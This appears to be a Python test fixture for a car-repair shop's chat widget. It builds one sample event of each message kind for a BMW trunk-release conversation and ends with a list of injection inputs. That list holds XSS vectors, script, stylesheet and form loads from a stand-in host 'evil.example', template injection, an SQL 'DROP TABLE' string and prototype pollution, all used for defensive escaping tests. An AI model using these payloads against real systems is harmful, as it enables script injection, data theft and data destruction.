"""A conversation that has every kind of card in it, and words that try to break out of them."""

from __future__ import annotations

from typing import Any

Event = dict[str, Any]
START = 1_764_080_000.0
SOURCE = {
    "document": "bmw-328i",
    "title": "BMW 328i",
    "section": "bmw-328i/manual-release",
    "lines": [[41, 44]],
}
GUIDE = ("cite", "From the shop's guide: BMW 328i")


def event(seq: int, kind: str | None, *parts: tuple[str, str], buttons: str = "", **keys: Any) -> Event:
    """A shop's event."""
    return {
        "seq": seq, "at": START + 40 * seq, "from": "shop", "text": "\n".join(text for _, text in parts),
        "parts": [{"role": role, "text": text} for role, text in parts],
        "buttons": [{"title": title, "id": f"b:{n}"} for n, title in enumerate(filter(None, buttons.split("|")))],
        "kind": kind, "custom": {"kind": kind, **keys.pop("custom", {})} if kind else None,
        "image": keys.pop("image", None), "notice": False, **keys,
    }  # fmt: skip


def said(seq: int, text: str) -> Event:
    """A person's event."""
    return {**event(seq, None), "from": "person", "text": text, "parts": [], "message": f"message-{seq:016}"}


def every_kind() -> list[Event]:
    """One of each, in the order of a bad day."""
    step = {"section": "bmw-328i/manual-release", "step": 2, "steps": 5, "source": SOURCE}
    warned = {"section": "bmw-328i/manual-release", "source": SOURCE}
    return [
        said(1, "fob does nothing, trunk stuck"),
        event(2, "ask", ("question", "Which car is it?"), buttons="BMW 328i|Maserati"),
        said(3, "2009 bimmer coupe"),
        event(
            4, "plan", ("cite", "Going by our guide: BMW 328i."), ("head", "The battery is dead. These ways apply:"),
            ("list", "1. Manual release\n2. Jump-starting the car"), ("skipped", "Left out: Rear seats. Do not fold."),
            ("question", "Shall we start?"), buttons="Manual release|Jump-starting the car|A person, please",
        ),
        event(
            5, "step", ("head", "Step 2 of 5: Manual release"), ("needs", "The metal key blade.\nA flashlight."),
            ("warning", "Warning: Be careful with the paint."), ("words", "Find the slot.\nTake off its cap."),
            ("note", "Shop note: The cap may be stiff."), ("gap", "Not in our guide: the other side."), GUIDE,
            buttons="Done, next|Didn't work|Back|All steps at once", custom=step,
            image={"src": "/pictures/bmw-slot.svg", "alt": "The slot under the lid"},
        ),
        event(6, "answer", ("words", "Push the blade straight in."), GUIDE, ("question", "Go on?"), custom=warned),
        event(7, "warning", ("warning", "Please do not force it."), GUIDE, custom=warned),
        event(8, "not-covered", ("say", "Our guides do not cover that."), ("contact", "Phone: 555-0142")),
        event(9, "unclear", ("say", "I did not understand that.")),
        event(
            10, "emergency", ("warning", "This is an emergency: call 911 now."),
            ("contact", "Hillside Auto Service\nPhone: 555-0142"), buttons="The danger is over",
        ),
        event(11, "refused", ("say", "I can only help with a car when its owner agrees.")),
        event(12, "talk", ("say", "You are welcome.")),
        event(13, "handoff", ("say", "A person takes over."), ("question", "How can we reach you?"), custom={"ticket": 1001}),
        event(14, "resolved", ("say", "Good, it is open."), buttons="Keep the battery healthy|No, still shut"),
    ]  # fmt: skip


INJECTIONS = tuple(
    line
    for line in r"""
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<img src=x onerror=alert(1)>
<img src=https://evil.example/p.png>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>tap</a>
<a href="https://evil.example">your bank</a>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>
<style>*{display:none}</style>
<style>@import 'https://evil.example/x.css'</style>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content=0;url=https://evil.example>
<base href=https://evil.example/>
<form action=https://evil.example><button>OK</button></form>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</p></li></ol><h1>gone</h1>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
[tap](javascript:alert(1))
![p](https://evil.example/p.png)
[tap](data:text/html;base64,PHNjcmlwdD4=)
`<img src=x onerror=alert(1)>`
**bold** _it_ # head
{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{7*7}
<%= 7*7 %>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src="x` `<script>alert(1)</script>"` `>
<x onclick=alert(1)>click</x>
<curbside-chat server=https://evil.example></curbside-chat>
<slot name=x></slot><div slot=x>y</div>
/choose{"section": "maserati/x"}
'; DROP TABLE events; --
__proto__[polluted]=1 constructor.prototype
""".strip().splitlines()
)
